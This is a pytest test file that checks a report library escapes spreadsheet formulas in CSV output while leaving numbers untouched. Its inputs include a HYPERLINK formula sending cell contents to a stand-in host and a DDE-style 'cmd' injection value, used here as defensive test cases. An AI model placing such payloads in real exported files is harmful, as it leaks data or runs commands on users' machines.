"""Texts of a table that a person opens are never calculated; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from synthcraft.tools.report.figure import Picture, Sketch
from synthcraft.tools.report.printed import Printed
from synthcraft.tools.report.spreadsheet import as_cell

FORMULA = '=HYPERLINK("http://x.test/?"&A1)'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|x", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-A1"])
def test_a_text_that_would_be_calculated_gets_an_apostrophe(text: str) -> None:
    assert as_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value",
    ["-0.12", "+3", "-1,204", "-1.5e-05", "-3 %", "-0.05 (-0.10 to 0.02)", "-8.9e-04 to 0.005",
     "age - 5", "", None, -2],
)  # fmt: skip
def test_numbers_and_plain_texts_stay_as_they_are(value: object) -> None:
    assert as_cell(value) == value


def test_tables_and_figures_write_guarded_cells() -> None:
    table = Printed(name="t", title="T", header=("Level", "-x"), rows=((FORMULA, "-0.5"),))
    assert cells(table.csv) == [["Level", "'-x"], [f"'{FORMULA}", "-0.5"]]
    figure = Picture(
        "f", Sketch(lambda _: None, (1, 1), ""), "", "", ({"level": "@x"}, {"level": "b", "n": -1})
    )
    assert cells(figure.csv) == [["level", "n"], ["'@x", ""], ["b", "-1"]]
